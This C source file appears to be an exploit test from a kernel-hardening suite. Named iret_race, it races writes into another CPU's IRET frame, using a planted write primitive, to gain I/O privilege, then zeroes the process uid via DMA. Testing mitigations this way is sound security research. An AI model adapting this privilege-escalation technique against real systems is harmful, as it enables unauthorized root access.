/*
 * With KAISER off IRET's frame lies for a few instructions where every processor can store: this
 * one raises the privilege level for I/O in the frame of another, which takes page faults. `attack
 * iret_race` wins with kaiser=off alone.
 */
#include <stdint.h>
#include <sys/mman.h>

#include "attack.h"

enum { CPU_OF_WRITER, CPU_OF_VICTIM, NR_CPUS };
enum { STAGE_READY = 1, STAGE_DONE };
enum { NR_PAGES = 256, NR_ROUNDS = 600, RFLAGS_IOPL = 3 << 12 };
/* arch/x86_64/entry/entry_area.def: the end of the entry stack of processor 1; of the frame's five
 * words the third. */
#define FLAGS_AT (0xffffe00000126000ul - 3 * 8)
/* IOPL and IF. */
enum { FLAGS_BYTE = 0x32 };

static attack_stage stage;
static struct bw_leak leak;

static bool has_ports(void)
{
	uint64_t flags;

	__asm__ volatile("pushfq\n\tpop %0" : "=r"(flags));
	return (flags & RFLAGS_IOPL) == RFLAGS_IOPL;
}

/* Faults once a page. */
static bool fault_on(volatile char *pages)
{
	for (size_t i = 0; i < NR_PAGES; i++) {
		pages[i * BW_PAGE_SIZE] = 1;
		if (has_ports()) {
			return true;
		}
	}
	return false;
}

static void victim(void *unused)
{
	bool won = false;

	(void)unused;
	attack_dma_prepare();
	attack_tell(&stage, STAGE_READY);
	for (int round = 0; round < NR_ROUNDS && !won; round++) {
		char *pages = mmap(NULL, (size_t)NR_PAGES * BW_PAGE_SIZE, PROT_READ | PROT_WRITE,
				   MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

		won = pages != MAP_FAILED && fault_on(pages) && attack_dma_zero32(leak.uid_pa);
		munmap(pages, (size_t)NR_PAGES * BW_PAGE_SIZE);
	}
	attack_tell(&stage, STAGE_DONE);
}

int main(void)
{
	attack_begin(&leak, NR_CPUS, CPU_OF_WRITER);
	attack_thread(CPU_OF_VICTIM, victim, NULL);
	attack_await(&stage, STAGE_READY, AWAIT_SPIN);
	while (stage != STAGE_DONE) {
		attack_check("vuln_store", bw_vuln_store(FLAGS_AT + 1, FLAGS_BYTE, 1));
	}
	return attack_finish();
}
